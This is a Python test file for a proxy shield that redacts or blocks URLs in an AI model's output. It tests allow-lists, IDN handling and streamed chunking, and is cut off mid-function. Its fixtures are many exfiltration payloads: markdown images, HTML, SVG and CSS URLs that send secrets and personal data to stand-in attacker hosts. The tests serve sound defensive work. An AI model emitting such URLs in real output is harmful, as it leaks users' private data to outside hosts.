"""The ``links`` shield: every URL form, the host and data rules, streams, end to end.

Zero-leak proofs go through the real stream guard (``tests.support.stream_helpers``) with hypothesis
choosing texts, URL forms and chunkings; the end-to-end tests drive the real proxy with the
``openai`` SDK, chat completions and the Responses API, stream and not.
"""

from __future__ import annotations

import csv
import itertools
import json
import random
from collections.abc import Callable
from pathlib import Path
from typing import Any

import openai
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from pydantic import ValidationError

from proxy.serving.server import RunningServer
from proxy.stream.guard import GuardState
from shields.builtin.links import DataRule, LinksSpec, judge_url, parse_entry
from shields.policy import CompiledPolicy, PolicyError, load_policy, parse_policy
from shields.scan import TextScan, check_text, merge_redactions, redact
from tests.conftest import ProxyFactory
from tests.support.constants import EVAL_DATA
from tests.support.fake_upstream import FakeUpstream, Reply, chat_completion, chunk, json_bytes, sse
from tests.support.stream_helpers import channel_text, deltas, payloads, run

MakeClient = Callable[..., openai.AsyncOpenAI]

DEFAULT = load_policy("policies/default.yaml")
STRICT = load_policy("policies/strict.yaml")
EVAL = EVAL_DATA
GONE = "[URL REDACTED]"
RULE = DataRule(64, 64, 64, 24, 4.3)


def links_policy(holdback: int = 150, **options: Any) -> CompiledPolicy:
    spec = {"id": "links", "type": "links", **options}
    return parse_policy(
        f"name: links-test\nstream: {{holdback_chars: {holdback}}}\n"
        f"output:\n  - {json.dumps(spec)}\n"
    )


CHECK_ALL = links_policy(
    links="redact",
    allow_hosts=["docs.python.org", "*.example.com", "https://secure.example.org"],
)


def redacted(text: str, policy: CompiledPolicy = CHECK_ALL) -> str:
    return redact(text, 0, merge_redactions(check_text(policy.output_shields, text)))


def labels(text: str, policy: CompiledPolicy = CHECK_ALL) -> list[str]:
    return [f.label for f in check_text(policy.output_shields, text)]


# -- every URL form ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "expected", "label"),
    [
        # markdown images and links, with titles, angle brackets, spaces and nested parens
        ("![a](https://evil.test/p.png)", f"![a]({GONE})", "image.host"),
        ('![a](https://evil.test/p.png "title")', f'![a]({GONE} "title")', "image.host"),
        ("![a](<https://evil.test/a b.png>)", f"![a](<{GONE}>)", "image.host"),
        ("![a]( https://evil.test/x)", f"![a]( {GONE})", "image.host"),
        ("![a](https://evil.test/a_(b)_c.png)", f"![a]({GONE})", "image.host"),
        ("![a](https://evil.test/a\\)b)", f"![a]({GONE})", "image.host"),
        ("[text](https://evil.test/x)", f"[text]({GONE})", "link.host"),
        (
            "[![i](https://evil.test/i.png)](https://docs.python.org/3/)",
            f"[![i]({GONE})](https://docs.python.org/3/)",
            "image.host",
        ),
        # scheme-relative, backslashes and no slashes where a destination goes
        ("![a](//evil.test/p.png)", f"![a]({GONE})", "image.host"),
        ("![a](https:\\\\evil.test/p.png)", f"![a]({GONE})", "image.host"),
        ("![a](http:evil.test/p.png)", f"![a]({GONE})", "image.host"),
        # reference definitions (judged as images: `![x][id]` may use them)
        ("![x][id]\n\n[id]: https://evil.test/i.png", f"![x][id]\n\n[id]: {GONE}", "image.host"),
        ("[id]: <https://evil.test/i i.png>", f"[id]: <{GONE}>", "image.host"),
        # HTML: quoted, single-quoted and unquoted attributes; other URLs in a tag; CSS
        ('<img src="https://evil.test/a b">', f'<img src="{GONE}">', "image.host"),
        ("<img alt=x src='https://evil.test/p'>", f"<img alt=x src='{GONE}'>", "image.host"),
        ("<img src=https://evil.test/p width=1>", f"<img src={GONE} width=1>", "image.host"),
        (
            '<img srcset="a.png 1x, https://evil.test/p 2x">',
            f'<img srcset="a.png 1x, {GONE} 2x">',
            "image.host",
        ),
        ('<a href="https://evil.test/x">go</a>', f'<a href="{GONE}">go</a>', "link.host"),
        ("<a href=//evil.test/x>go</a>", f"<a href={GONE}>go</a>", "link.host"),
        (
            '<div style="background:url(https://evil.test/b.png)">',
            f'<div style="background:url({GONE})">',
            "image.host",
        ),
        # bare URLs, autolinks, www., trailing punctuation, JSON
        ("see https://evil.test/x.", f"see {GONE}.", "link.host"),
        ("(see https://evil.test/x)", f"(see {GONE})", "link.host"),
        ("see HTTPS://evil.test/Q?A=B, then", f"see {GONE}, then", "link.host"),
        ("visit www.evil.test/path!", f"visit {GONE}!", "link.host"),
        ("<https://evil.test/x>", f"<{GONE}>", "link.host"),
        ('{"url": "https://evil.test/api", "n": 1}', f'{{"url": "{GONE}", "n": 1}}', "link.host"),
        ("xhttps://evil.test/a", f"x{GONE}", "link.host"),
    ],
)
def test_every_url_form_is_found_and_only_the_url_replaced(
    text: str, expected: str, label: str
) -> None:
    assert redacted(text) == expected
    assert labels(text)[0] == label


@pytest.mark.parametrize(
    "text",
    [
        "plain prose with no link at all, http and www mentioned.",
        "a path /usr/local/bin and a comment // not a URL",
        "code: x = a//b; y = 'http'; z = www",
        "![local](images/diagram.png) and [rel](../docs/guide.md)",
        "![root](/static/logo.png) [www](www.relative.md)",
        "see [docs](https://docs.python.org/3/library/re.html) and https://a.example.com/x",
        "https://secure.example.org/path?x=1",
        "awwww. show www.",
        "URLs start with https:// or http://, not www. alone.",
        "export OPENAI_BASE_URL=https://docs.python.org/v1",
    ],
)
def test_text_without_a_disallowed_url_has_no_finding(text: str) -> None:
    assert labels(text) == []


# -- hosts ------------------------------------------------------------------------------------


def host_allowed(url: str, *entries: str) -> bool:
    return judge_url(url, tuple(parse_entry(e) for e in entries), RULE) is None


@pytest.mark.parametrize(
    ("url", "entries", "allowed"),
    [
        ("https://example.com/x", ["example.com"], True),
        ("https://EXAMPLE.com./x", ["example.com"], True),
        ("https://sub.example.com/x", ["example.com"], False),
        ("https://sub.example.com/x", ["*.example.com"], True),
        ("https://a.b.example.com/x", ["*.example.com"], True),
        ("https://example.com/x", ["*.example.com"], False),
        ("https://notexample.com/x", ["*.example.com"], False),
        ("https://example.com.evil.test/x", ["example.com"], False),
        ("http://example.com/x", ["https://example.com"], False),
        ("https://example.com/x", ["https://example.com"], True),
        ("//example.com/x", ["https://example.com"], False),
        ("//example.com/x", ["example.com"], True),
        ("https://example.com:8443/x", ["example.com"], False),
        ("https://example.com:443/x", ["example.com"], True),
        ("https://example.com:8443/x", ["example.com:8443"], True),
        ("https://evil.test/x", ["*"], True),
        # userinfo and IP literals never match by name or suffix
        ("https://example.com@evil.test/", ["example.com", "*.example.com"], False),
        ("https://user:pw@example.com/", ["example.com"], False),
        ("https://127.0.0.1/", ["example.com"], False),
        ("https://2130706433/", ["example.com"], False),
        ("https://0x7f.1/", ["example.com"], False),
        ("https://[::1]/", ["example.com"], False),
        # IDN: compared after IDNA; confusables are other hosts
        ("https://bücher.example/x", ["xn--bcher-kva.example"], True),
        ("https://xn--bcher-kva.example/x", ["bücher.example"], True),
        ("https://аpple.com/x", ["apple.com"], False),  # Cyrillic "а"
        ("https://ｅｘａｍｐｌｅ.com/x", ["example.com"], True),  # full width: the same host
        ("https://example。com/x", ["example.com"], True),
        ("https://faß.de/x", ["fass.de"], False),  # browsers go to xn--fa-hia.de
        ("https://%65xample.com/x", ["example.com"], True),
        ("https://evil.test%2F.example.com/x", ["*.example.com"], False),
    ],
)
def test_host_matching(url: str, entries: list[str], allowed: bool) -> None:
    assert host_allowed(url, *entries) is allowed


@pytest.mark.parametrize(
    "entry",
    [
        "",
        "http://",
        "ftp://example.com",
        "example.com/path",
        "a..b",
        "*.*.com",
        "x:99999",
        "127.0.0.1",
    ],
)
def test_bad_allow_entries_fail_at_load(entry: str) -> None:
    with pytest.raises(PolicyError, match="allow_hosts"):
        links_policy(allow_hosts=[entry])


def test_the_shield_takes_per_kind_actions_not_action() -> None:
    with pytest.raises(PolicyError, match="images"):
        links_policy(action="redact")
    with pytest.raises(ValidationError):
        LinksSpec(id="x", images="drop")  # type: ignore[arg-type]


# -- the data rule ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("url", "carries"),
    [
        ("https://example.com/how-to-install-python-on-windows-10", False),
        ("https://example.com/photo-1506744038136-46273834b3fb?w=800&q=80&fit=crop", False),
        ("https://example.com/commit/7f3c2a9e1b4d6f8a0c2e4b6d8f1a3c5e7f3c2a9e", False),
        ("https://example.com/p.png?q=" + "a" * 65, True),
        ("https://example.com/p.png#" + "a" * 65, True),
        ("https://example.com/" + "a" * 65 + "/p.png", True),
        ("https://example.com/p.png?d=dXNlciBsaXZlcyBhdCAxMiBFbG0gU3Q", True),  # base64
        ("https://dXNlciBsaXZlcyBhdCAxMiBFbG0gU3Q.example.com/p.png", True),  # in a label
    ],
)
def test_data_carrying_urls_are_not_allowed_even_to_allowed_hosts(url: str, carries: bool) -> None:
    entries = (parse_entry("example.com"), parse_entry("*.example.com"))
    assert (judge_url(url, entries, RULE) == "data") is carries


# Fetched without a click: every URL in HTML/SVG but the href of an <a> or <area>, and every
# URL in CSS. Each with the default policy (images redacted, links pass).
ZERO_CLICK = [
    '<svg><image href="{u}/p.png?q=x"/></svg>',
    '<svg><image xlink:href="{u}/p.png"/></svg>',
    '<svg><use href="{u}/s.svg#a"/></svg>',
    "<svg><use xlink:href='{u}/s.svg#a'/></svg>",
    '<svg><filter><feImage href="{u}/p.png"/></filter></svg>',
    '<link rel="stylesheet" href="{u}/s.css">',
    "<link rel=icon href={u}/f.ico>",
    '<LINK REL="preload" HREF="{u}/f.woff" as="font">',
    '<link rel="prefetch" href="{u}/n.html">',
    '<style>@import "{u}/p.css";</style>',
    "<style>@import '{u}/p.css' screen;</style>",
    '<style>@IMPORT\n  "{u}/p.css";</style>',
    "<style>@import url({u}/p.css);</style>",
    '<script src="{u}/x.js"></script>',
    '<iframe src="{u}/f.html"></iframe>',
    '<object data="{u}/o.svg"></object>',
    '<embed src="{u}/e.svg">',
    '<video poster="{u}/v.png"></video>',
    '<picture><source srcset="{u}/p.png"></picture>',
    '<form action="{u}/f"><button>go</button></form>',
]


@pytest.mark.parametrize("form", ZERO_CLICK)
def test_zero_click_html_svg_and_css_urls_are_images(form: str) -> None:
    evil = form.format(u="https://evil.test")
    assert [f.label for f in check_text(DEFAULT.output_shields, evil)] == ["image.host"]
    assert GONE in redacted(evil, DEFAULT)
    assert "evil.test" not in redacted(evil, DEFAULT)
    allowed = form.format(u="https://cdn.example.com")
    assert labels(allowed) == []


@pytest.mark.parametrize(
    "text",
    [
        '<a href="https://evil.test/x">go</a>',
        "<A HREF=https://evil.test/x>go</A>",
        '<map><area shape="rect" href="https://evil.test/x"></map>',
        '<svg><a xlink:href="https://evil.test/x"><text>go</text></a></svg>',
        '<svg><a href="https://evil.test/x"><text>go</text></a></svg>',
    ],
)
def test_only_a_and_area_href_are_links(text: str) -> None:
    assert labels(text) == ["link.host"]
    assert redacted(text, DEFAULT) == text  # the default policy lets links pass


def test_each_srcset_candidate_is_judged_on_its_own() -> None:
    # The first candidate's host being allowed does not carry the next one through: a srcset
    # URL ends at whitespace, not at the attribute's closing quote.
    policy = links_policy(allow_hosts=["*.example.com"])  # default actions
    text = '<img srcset="https://cdn.example.com/a.png 1x, https://evil.test/b.png 2x">'
    expected = f'<img srcset="https://cdn.example.com/a.png 1x, {GONE} 2x">'
    assert redacted(text, policy) == expected
    text = "<source srcset='https://cdn.example.com/a.png 480w,https://evil.test/b.png 960w'>"
    expected = f"<source srcset='https://cdn.example.com/a.png 480w,{GONE} 960w'>"
    assert redacted(text, policy) == expected


def test_a_css_import_string_is_an_image_but_a_quoted_url_in_prose_is_not() -> None:
    assert labels('see "https://evil.test/x" here') == ["link.host"]
    assert labels('@import "https://evil.test/x.css";') == ["image.host"]


def test_default_policy_redacts_images_and_lets_links_pass() -> None:
    text = "See [docs](https://evil.test/d) ![x](https://evil.test/p.png?q=secret) https://a.test"
    assert redacted(text, DEFAULT) == f"See [docs](https://evil.test/d) ![x]({GONE}) https://a.test"


def test_strict_policy_blocks_images_and_redacts_links() -> None:
    found = check_text(STRICT.output_shields, "read [this](https://evil.test/x)")
    assert [(f.label, f.action.value) for f in found] == [("link.host", "redact")]
    found = check_text(STRICT.output_shields, "![x](https://evil.test/p.png)")
    assert [(f.label, f.action.value) for f in found] == [("image.host", "block")]


def test_an_over_long_url_is_reported_in_contiguous_pieces() -> None:
    policy = links_policy(allow_hosts=["docs.python.org"], links="redact", max_url_chars=40)
    url = "https://docs.python.org/" + "x" * 90
    found = check_text(policy.output_shields, f"see {url} now")
    assert {f.label for f in found} == {"link.long"}
    spans = [(f.start, f.end) for f in found]
    assert spans[0][0] == 4 and spans[-1][1] == 4 + len(url)
    assert all(a[1] == b[0] for a, b in itertools.pairwise(spans))
    assert all(end - start <= 40 for start, end in spans)
    assert redacted(f"see {url} now", policy) == f"see {GONE} now"


# -- streams ----------------------------------------------------------------------------------

SECRET = "Zq7SECRETxK"  # the data a URL carries; never to leave in any piece of it
URL_FORMS = [
    "![img](https://evil.test/p.png?d={s})",
    "![img](<https://evil.test/a {s}>)",
    '<img src="https://evil.test/{s}" />',
    "[id]: https://evil.test/{s}.png",
    "[a link](https://evil.test/q?{s})",
    "see https://evil.test/{s}/x.",
    "https://docs.python.org/?q={s}" + "x" * 60,  # allowed host, data-carrying (query)
    "https://evil.test/" + "a" * 170 + "{s}" + "b" * 20,  # longer than max_url_chars
    "![x](https://docs.python.org/" + "y" * 150 + "{s})",
    '<svg><image href="https://evil.test/p.png?q={s}"/></svg>',
    "<link rel=stylesheet href=https://evil.test/{s}.css>",
    '<style>@import "https://evil.test/{s}.css";</style>',
    "<img srcset='https://docs.python.org/a.png 1x, https://evil.test/{s}.png 2x'>",
]
STREAM_POLICY = links_policy(holdback=160, links="redact", allow_hosts=["docs.python.org"])
BLOCK_POLICY = links_policy(
    holdback=160, images="block", links="block", allow_hosts=["docs.python.org"]
)
prose = st.text(alphabet="ab h/tps:w.()[]!<>\"'\n", max_size=40)
chunkings = st.lists(st.integers(min_value=1, max_value=9), min_size=1, max_size=12)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    before=prose,
    after=prose,
    form=st.sampled_from(URL_FORMS),
    sizes=chunkings,
    key=st.sampled_from(["content", "arguments"]),
    flush_every=st.integers(min_value=1, max_value=3),
)
def test_a_redacted_url_never_leaves_under_any_chunking(
    before: str, after: str, form: str, sizes: list[int], key: str, flush_every: int
) -> None:
    text = f"{before} {form.format(s=SECRET)} {after}"
    out, guard = run(
        STREAM_POLICY, sse(*deltas(text, key, sizes), chunk({})), flush_every=flush_every
    )
    assert guard.state is GuardState.DONE
    released = channel_text(out, key)
    assert released == redacted(text, STREAM_POLICY)  # the same as a whole-text check
    assert SECRET not in released
    for payload in payloads(out)[:-1]:
        assert SECRET[:4] not in json.dumps(payload)  # not even a piece of it, in any event


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    before=prose,
    after=prose,
    form=st.sampled_from(URL_FORMS),
    sizes=chunkings,
    key=st.sampled_from(["content", "arguments"]),
)
def test_a_blocked_url_never_leaves_under_any_chunking(
    before: str, after: str, form: str, sizes: list[int], key: str
) -> None:
    text = f"{before} {form.format(s=SECRET)} {after}"
    found = check_text(BLOCK_POLICY.output_shields, text)
    start = min(f.start for f in found)
    out, guard = run(BLOCK_POLICY, sse(*deltas(text, key, sizes), chunk({})))
    assert guard.state is GuardState.BLOCKED
    released = channel_text(out, key)
    assert text.startswith(released)
    assert len(released) <= start
    assert SECRET[:4] not in out.decode()


@settings(max_examples=300, deadline=None)
@given(
    text=st.text(alphabet="ab h/tps:w.()[]!<>\"'=\n\\", max_size=120),
    sizes=chunkings,
    url=st.sampled_from(["", *(f.format(s=SECRET) for f in URL_FORMS)]),
)
def test_streams_find_what_whole_texts_find_and_hold_only_open_urls(
    text: str, sizes: list[int], url: str
) -> None:
    """Soundness of ``open_from``: nothing reported later starts before what was declared
    safe; and the findings are those of the whole text, in any chunking."""
    half = len(text) // 2
    text = text[:half] + url + text[half:]
    shields = STREAM_POLICY.output_shields
    scan = TextScan(shields, holdback=160, adaptive=True)
    found = []
    pos, i = 0, 0
    while pos < len(text):
        piece = text[pos : pos + sizes[i % len(sizes)]]
        safe = scan.safe_end
        new = scan.feed(piece)
        assert all(f.start >= safe for f in new)
        found += new
        pos, i = pos + len(piece), i + 1
    safe = scan.safe_end
    new = scan.finish()
    assert all(f.start >= safe for f in new)
    found += new
    whole = check_text(shields, text)
    assert sorted((f.start, f.end, f.label) for f in found) == sorted(
        (f.start, f.end, f.label) for f in whole
    )


# URLs whose start ("https:", "//", "\\\\", "www.") is followed by more than five characters
# that are none of ":./\\" (the scanner looks back five for a start still forming), so that
# a stream of one character a token feeds many tokens without them right after the start.
SHORTCUT_FORMS = [
    "![img](https:attackerhost" + SECRET + ".test/p)",
    "![img](//attackerhost" + SECRET + ".test/p)",
    "![img](\\\\attackerhost" + SECRET + ".test/p)",
    "see www" + "." + "attackerhost" + SECRET + ".test now",
    "<img src=https://attackerhost" + SECRET + ".test>",
]


@pytest.mark.parametrize("form", SHORTCUT_FORMS)
@pytest.mark.parametrize("size", [1, 2, 3, 5])
def test_tokens_without_a_start_character_skip_the_search_and_miss_no_url(
    form: str, size: int
) -> None:
    """A token with none of ":./\\" ends no URL start, so the scanner does not search it
    (most tokens of prose): a start completed by its last character ("/" of "//", "\\",
    ":" of "https:") is found in that token, not lost behind the tokens without one that
    follow it. Had the shortcut left one of the four characters out, the start would fall
    behind the look-back and the URL would leave whole."""
    text = f"intro {form} outro"
    policy = links_policy(holdback=160, images="redact", links="redact")
    whole = [(f.start, f.end, f.label) for f in check_text(policy.output_shields, text)]
    assert whole, form  # each form is a URL the shield judges
    scan = TextScan(policy.output_shields, holdback=160, adaptive=True)
    found = []
    for i in range(0, len(text), size):
        safe = scan.safe_end
        new = scan.feed(text[i : i + size])
        assert all(f.start >= safe for f in new)
        found += new
    found += scan.finish()
    assert sorted((f.start, f.end, f.label) for f in found) == sorted(whole)


def test_prose_and_allowed_kinds_are_not_held() -> None:
    scan = TextScan(DEFAULT.output_shields, holdback=160, adaptive=True)
    text = "Here is [a link](https://example.com/some/long/path/" + "x" * 100
    scan.feed(text)
    # The default policy lets links pass: a link still being read holds nothing of its own
    # (the other shields hold a character or two at most).
    assert scan.safe_end >= len(text) - 5
    scan = TextScan(DEFAULT.output_shields, holdback=160, adaptive=True)
    scan.feed("an image: ![a](https://evil.test/p.png?q=")
    assert scan.safe_end == len("an image: ![a](")  # held from the start of the image URL


# -- tags, CSS and markdown at any distance (black-box QA, F3) --------------------------------

LEAK = "https://attacker.example/p.png?q=secret"
FAR_FORMS = {
    # a tag's "<" far before its src: a long alt, class or run of whitespace
    "long alt": '<img alt="' + "A" * 300 + '" src="{u}">',
    "long class": '<img class="' + "x " * 150 + '" src="{u}">',
    "long whitespace": "<img" + " " * 300 + 'src="{u}">',
    "long newlines": "<img\n" + "\n" * 900 + "src={u}>",
    "whitespace after =": "<img src=" + " \n" * 400 + '"{u}">',
    # what a browser reads inside a tag: ">" and "<" in a quoted value
    "> in a quoted alt": '<img alt="a>b" src="{u}">',
    "< in a quoted alt": "<img alt='x < y' src='{u}'>",
    "unquoted value with quotes": "<img alt=it's src={u}>",
    # the CSS of a style element, with any whitespace
    "style url after blank lines": "<style>body{{background:url(\n\n\n'{u}')}}</style>",
    "style import after spaces": "<style>@import" + " " * 100 + '"{u}";</style>',
    "style image-set": '<style>p{{background-image:image-set("{u}" 1x)}}</style>',
    "style long": "<style>" + "p{color:red}\n" * 200 + "q{{background:url({u})}}</style>",
    # markdown destinations after a long run of spaces (one line end at most)
    "markdown image, spaces": "![x](" + " " * 2000 + "{u})",
    "markdown image, spaces and a line end": "![x](" + " " * 700 + "\n" + "\t" * 900 + "{u})",
    "reference definition, spaces": "[r]:" + " " * 3000 + "{u}\n\n![x][r]",
}


@pytest.mark.parametrize("name", FAR_FORMS)
def test_a_url_far_from_its_tag_or_markup_is_still_an_image(name: str) -> None:
    text = FAR_FORMS[name].replace("{{", "{").replace("}}", "}").replace("{u}", LEAK)
    assert labels(text, DEFAULT) == ["image.host"]
    assert "attacker" not in redacted(text, DEFAULT)
    for size in (1, 2, 7, 64):
        body = sse(*deltas(text, "content", [size]), chunk({}, finish_reason="stop"))
        out, guard = run(DEFAULT, body)
        assert guard.state is GuardState.DONE
        assert channel_text(out, "content") == redacted(text, DEFAULT)
        assert "attacker" not in out.decode()


@pytest.mark.parametrize(
    "text",
    [
        # a blank line ends a markdown destination: the URL after it is a bare link
        "![x](" + " " * 900 + "\n\n" + " " * 900 + "https://evil.test/p.png)",
        # closed tags and their end tags leave the text after them outside any tag
        '<b class="' + "x" * 400 + '">bold</b> see https://evil.test/x',
        "<style>p{color:red}</style>\n" + "text " * 100 + "https://evil.test/x",
        "<a title='" + "t" * 300 + "' href='https://evil.test/x'>go</a>",
        # code: a URL in a call or an assignment, "<" with spaces around it
        'requests.get(url="https://evil.test/api")',
        'url = "https://evil.test/api"\nconst u = "https://evil.test/x";',
        "if a < b:\n" + "    pass\n" * 60 + 'fetch("https://evil.test/x")',
        "x = y if a <= b else z  # https://evil.test/x",
        # a "//" inside base64 data or a path in a tag is no scheme-relative URL
        '<img alt="' + "a" * 300 + '" src="data:image/png;base64,iVBO+//A' + "x" * 50 + '">',
        '<link href="/static/a//b.css">',
    ],
)
def test_links_and_text_outside_tags_stay_links(text: str) -> None:
    assert all(label.startswith("link.") for label in labels(text)), labels(text)
    assert redacted(text, DEFAULT) == text


# The black-box QA forms (the ones that already held before F3): each image form is redacted by
# the default policy, whole and streamed; the ones listed in PASSING are not images by design.
QA_DATA = "user+lives+at+12+Elm+St+ssn+078051120+and+more+data+here+xxxxxxxxxxxxxxxxxxxx"
QA_FORMS = {
    "md image": "![x](https://attacker.example/p.png?q={d})",
    "md image short q": "![x](https://attacker.example/p.png?q=hi)",
    "md image angle": "![x](<https://attacker.example/p.png?q={d}>)",
    "md image title": '![x](https://attacker.example/p.png?q={d} "t")',
    "md image nested brackets": "![a [b] c](https://attacker.example/p.png?q={d})",
    "md image in link": "[![a](https://attacker.example/p.png?q={d})](https://ok.example)",
    "ref def": "![c][r]\n\n[r]: https://attacker.example/c.png?{d}",
    "ref def angle + title": "![c][r]\n\n[r]: <https://attacker.example/c.png> 'x'",
    "ref def indented 3": "![c][r]\n\n   [r]: https://attacker.example/c.png",
    "ref def label case": "![c][R]\n\n[r]:https://attacker.example/c.png",
    "html img": '<img src="https://attacker.example/p.gif?d={d}">',
    "html IMG upper": '<IMG SRC="https://attacker.example/p.gif?d={d}">',
    "html img unquoted": "<img src=https://attacker.example/p.gif?d={d}>",
    "html img newline attr": '<img\nsrc="https://attacker.example/p.gif">',
    "html img srcset": (
        '<img srcset="https://attacker.example/a.png 1x, https://attacker.example/b.png 2x">'
    ),
    "html img protocol-relative": '<img src="//attacker.example/p.gif">',
    "html img backslashes": '<img src="\\\\attacker.example\\p.gif">',
    "html entity url": '<img src="&#104;ttps://attacker.example/p.gif">',
    "html img single quotes": "<img src='https://attacker.example/p.gif'>",
    "html picture source": '<picture><source srcset="https://attacker.example/a.png"></picture>',
    "html input image": '<input type="image" src="https://attacker.example/a.png">',
    "html body background": '<body background="https://attacker.example/a.png">',
    "html table background": '<table background="https://attacker.example/a.png"></table>',
    "html video src": '<video src="https://attacker.example/a.mp4"></video>',
    "html audio": '<audio src="https://attacker.example/a.mp3" autoplay></audio>',
    "html meta refresh": (
        '<meta http-equiv="refresh" content="0;url=https://attacker.example/?d=secret">'
    ),
    "html base href": '<base href="https://attacker.example/">![x](p.png)',
    "css url": "<div style=\"background:url('https://attacker.example/p.png')\"></div>",
    "css style block": "<style>body{background:url(https://attacker.example/p.png)}</style>",
    "css import": "<style>@import 'https://attacker.example/x.css';</style>",
    "svg image": '<svg><image href="https://attacker.example/p.png"/></svg>',
    "html iframe": '<iframe src="https://attacker.example/"></iframe>',
    "md image unicode host": "![x](https://\u0430ttacker.example/p.png)",
    "md image ipv4": "![x](http://127.0.0.1/p.png)",
    "md image escaped paren url": "![x](https://attacker.example/p\\(1\\).png?q={d})",
    "md image fenced code": "```\n![x](https://attacker.example/p.png?q={d})\n```",
    "md image inline code": "`![x](https://attacker.example/p.png?q={d})`",
    "md image in html comment": "<!-- ![x](https://attacker.example/p.png?q={d}) -->",
    "mermaid img": "```mermaid\ngraph TD; A[<img src='https://attacker.example/p.png'>]\n```",
    "object data": '<object data="https://attacker.example/p.svg"></object>',
    "link rel prefetch": '<link rel="prefetch" href="https://attacker.example/p">',
    "a ping": ('<a href="https://ok.example" ping="https://attacker.example/ping?d=secret">x</a>'),
    "img with spaces in src": '<img src=" https://attacker.example/p.png ">',
    "md image with < in alt": "![a<b](https://attacker.example/p.png?q={d})",
    # not images, by design: a click away, or no URL a browser fetches from another host
    "md image newline before (": "![x]\n(https://attacker.example/p.png?q={d})",
    "link with data": "[click](https://attacker.example/?q={d})",
    "md image no scheme host": "![x](attacker.example/p.png)",
    "md image www": "![x](www.attacker.example/p.png)",
    "md image relative": "![x](/p.png?q=secret)",
    "md image relative, long data": "![x](/p.png?q=" + "userdata" * 20 + ")",
    "latex includegraphics": "\\includegraphics{https://attacker.example/p.png}",
}
PASSING = {
    "md image newline before (",  # no image: "]" and "(" on two lines; a bare link remains
    "link with data",
    "md image no scheme host",  # relative paths on the page's own origin
    "md image www",
    "md image relative",
    "md image relative, long data",
    "latex includegraphics",  # not rendered by a chat UI; a bare link
}


@pytest.mark.parametrize("name", QA_FORMS)
def test_the_qa_image_forms_are_redacted_whole_and_streamed(name: str) -> None:
    text = QA_FORMS[name].replace("{d}", QA_DATA)
    hosts = ("attacker.example", "\u0430ttacker", "127.0.0.1")
    whole = redacted(text, DEFAULT)
    body = sse(*deltas(text, "content", [3]), chunk({}, finish_reason="stop"))
    out, guard = run(DEFAULT, body)
    assert guard.state is GuardState.DONE
    assert channel_text(out, "content") == whole
    if name in PASSING:
        assert not any(label.startswith("image.") for label in labels(text, DEFAULT))
    else:
        assert not any(host in whole for host in hosts)


pad = st.sampled_from([" ", "\n", "\t", "  \n", "x", ' a="', '"', "'", "<", ">", "="])
# Images redacted, links let through: what the kind of a URL decides.
KIND_POLICY = links_policy(holdback=160, allow_hosts=["docs.python.org"])
spaces = st.builds(
    lambda char, n: char * n,
    st.sampled_from([" ", "\t", "\n", " \n", "\r\n"]),
    st.integers(min_value=200, max_value=1500),
)


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    form=st.sampled_from(list(FAR_FORMS)),
    # prose that leaves no tag or quoted value open (one would make "<style>" an attribute)
    before=st.text(alphabet="ab h/tps:w.()[]!\n", max_size=40),
    sizes=chunkings,
)
def test_a_far_image_never_leaves_under_any_chunking(
    form: str, before: str, sizes: list[int]
) -> None:
    text = (
        before
        + " "
        + FAR_FORMS[form]
        .replace("{{", "{")
        .replace("}}", "}")
        .replace("{u}", f"https://evil.test/{SECRET}.png")
    )
    out, guard = run(KIND_POLICY, sse(*deltas(text, "content", sizes), chunk({})))
    assert guard.state is GuardState.DONE
    assert channel_text(out, "content") == redacted(text, KIND_POLICY)
    assert SECRET[:4] not in out.decode()


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    parts=st.lists(
        st.one_of(
            st.sampled_from(
                [
                    "<img",
                    "<a",
                    "<style>",
                    "</style>",
                    " src=",
                    " href=",
                    ' alt="x>y"',
                    "](",
                    "![x](",
                    "[r]:",
                    "url(",
                    "@import",
                    "b<c",
                    *(f.format(s=SECRET) for f in URL_FORMS[:6]),
                ]
            ),
            pad,
            spaces,
            # a destination's markup, a long run of whitespace, a URL
            st.builds(
                lambda markup, run, url: markup + run + url,
                st.sampled_from(["![x](", "[r]:", "url(", "<img src=", "@import", "<a href="]),
                spaces,
                st.sampled_from(['"https://evil.test/q"', "https://evil.test/p", "//evil.test/"]),
            ),
        ),
        max_size=12,
    ),
    sizes=chunkings,
)
def test_tags_and_long_whitespace_read_the_same_in_any_chunking(
    parts: list[str], sizes: list[int]
) -> None:
    """Whole texts and streams agree, and ``open_from`` holds what may still be reported, in
    texts with tags (closed or not), style elements and runs of whitespace longer than what a
    scanner keeps of the text."""
    text = "".join(parts)
    shields = KIND_POLICY.output_shields
    scan = TextScan(shields, holdback=160, adaptive=True)
    found = []
    pos, i = 0, 0
    while pos < len(text):
        piece = text[pos : pos + sizes[i % len(sizes)]]
        safe = scan.safe_end
        new = scan.feed(piece)
        assert all(f.start >= safe for f in new)
        found += new
        pos, i = pos + len(piece), i + 1
    safe = scan.safe_end
    new = scan.finish()
    assert all(f.start >= safe for f in new)
    found += new
    whole = check_text(shields, text)
    assert sorted((f.start, f.end, f.label) for f in found) == sorted(
        (f.start, f.end, f.label) for f in whole
    )


# -- end to end -------------------------------------------------------------------------------

EXFIL = "Done. ![logo](https://attacker.example/l.png?q=" + SECRET + ") Bye."
EXPECTED = f"Done. ![logo]({GONE}) Bye."
USER = [{"role": "user", "content": "summarize"}]


def content_events(text: str, size: int = 3) -> list[Any]:
    events: list[Any] = [chunk({"role": "assistant", "content": ""})]
    events += [chunk({"content": text[i : i + size]}) for i in range(0, len(text), size)]
    events.append(chunk({}, finish_reason="stop"))
    return events


async def test_chat_non_stream_and_stream_redact_an_exfiltrating_image(
    upstream: FakeUpstream, make_proxy: ProxyFactory, make_client: MakeClient
) -> None:
    upstream.enqueue(
        Reply(body=json_bytes(chat_completion(EXFIL))), Reply(events=content_events(EXFIL))
    )
    client = make_client(await make_proxy())

    raw = await client.chat.completions.with_raw_response.create(model="m", messages=USER)
    assert SECRET.encode() not in raw.http_response.content
    assert raw.parse().choices[0].message.content == EXPECTED

    stream = await client.chat.completions.create(model="m", messages=USER, stream=True)
    assert "".join([c.choices[0].delta.content or "" async for c in stream]) == EXPECTED


async def test_chat_tool_call_arguments_are_checked_too(
